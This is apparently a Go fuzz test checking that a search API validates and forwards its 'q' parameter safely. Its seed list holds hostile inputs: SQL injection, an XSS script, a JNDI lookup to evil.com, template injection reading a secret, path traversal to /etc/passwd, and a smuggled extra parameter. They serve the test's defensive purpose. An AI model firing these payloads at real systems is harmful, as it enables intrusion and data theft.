package httpserver

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"
)

// FuzzSearchQuery sends arbitrary q values through the router. The handler
// must never panic, must reject blank or oversized queries before searching,
// and must forward every other query unchanged.
func FuzzSearchQuery(f *testing.F) {
	seeds := []string{
		"graph neural networks",
		"'; DROP TABLE papers; --",
		"<script>alert('xss')</script>",
		"query\x00with\x00nulls",
		"query\nwith\nnewlines",
		"",
		"   ",
		"\u200b",
		"\ufeff",
		"\U0001F4A9",
		"\u202eright-to-left\u202c",
		string([]byte{0xfe, 0xff}),
		"${jndi:ldap://evil.com/a}",
		"{{.Env.SECRET}}",
		"../../etc/passwd",
		"a&source=nature",
		strings.Repeat("a", maxQueryLength),
		strings.Repeat("a", maxQueryLength+1),
		strings.Repeat("é", maxQueryLength),
	}
	for _, s := range seeds {
		f.Add(s)
	}

	f.Fuzz(func(t *testing.T, q string) {
		searcher := newStubSearcher()
		s := newTestServer(t, searcher, nil)

		target := "/api/v1/search?" + url.Values{"q": {q}}.Encode()
		req := httptest.NewRequest(http.MethodGet, target, nil)
		rr := httptest.NewRecorder()
		s.Handler().ServeHTTP(rr, req)

		trimmed := strings.TrimSpace(q)
		valid := trimmed != "" && utf8.RuneCountInString(trimmed) <= maxQueryLength

		if !valid {
			if rr.Code != http.StatusBadRequest {
				t.Fatalf("q=%q: expected 400, got %d", q, rr.Code)
			}
			if searcher.calls != 0 {
				t.Fatalf("q=%q: searcher called for invalid query", q)
			}
			return
		}

		if rr.Code != http.StatusOK {
			t.Fatalf("q=%q: expected 200, got %d: %s", q, rr.Code, rr.Body.String())
		}
		if got := searcher.lastReq.Params["q"]; got != q {
			t.Fatalf("q forwarded as %q, want %q", got, q)
		}
		if _, ok := searcher.lastReq.Params["source"]; ok {
			t.Fatalf("q=%q leaked a source parameter", q)
		}
	})
}
